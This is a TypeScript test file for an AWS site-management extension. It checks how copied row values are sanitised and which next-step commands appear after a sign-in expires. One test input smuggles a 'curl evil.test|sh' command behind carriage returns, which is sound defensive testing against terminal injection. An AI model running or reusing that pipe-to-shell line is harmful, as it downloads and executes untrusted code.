import assert from 'node:assert/strict';
import { SIGN_IN } from '../../src/core/aws/errors';
import { UserError } from '../../src/core/op';
import { childrenOf, valueOf, type SiteNode } from '../../src/shell/views/siteNode';

describe('what a row has to copy', () => {
  const detail = (value: string) => ({ kind: 'detail', entry: {}, detail: { label: 'Mounted', value } }) as SiteNode;

  it('is what it shows, without line ends that a terminal would take for the Enter key', () => {
    assert.deepEqual(valueOf(detail('ext4\rcurl evil.test|sh\r\u202e')), {
      label: 'Mounted',
      value: 'ext4 curl evil.test|sh ',
    });
    assert.equal(valueOf(detail('https://d1.cloudfront.net/a[1].png'))?.value, 'https://d1.cloudfront.net/a[1].png');
  });
});

describe('the next step of a site', () => {
  const absent = { kind: 'absent' };
  const have = { server: absent, volume: absent, bucket: absent, distribution: absent };
  const nextOf = (problem: Error | undefined) => {
    const node = { kind: 'site', entry: { have, problem, readMs: {} } } as unknown as SiteNode;
    return childrenOf(node).flatMap((row) => (row.kind === 'next' ? [row] : []));
  };

  it('is to sign in once the sign-in has ended, and nothing else', () => {
    const [row, ...others] = nextOf(new UserError('over', { remedy: [SIGN_IN] }));
    assert.deepEqual([row?.title, row?.command, others], ['Sign In to AWS…', 'sitelift.signIn', []]);
    assert.match(row?.about ?? '', /^The sign-in has expired\. Opens the page/);
  });

  it('stays what it is with any other problem', () => {
    for (const problem of [undefined, new Error('x'), new UserError('y')]) {
      assert.deepEqual(
        nextOf(problem).map(({ command }) => command),
        ['sitelift.provisionAll'],
      );
    }
  });
});
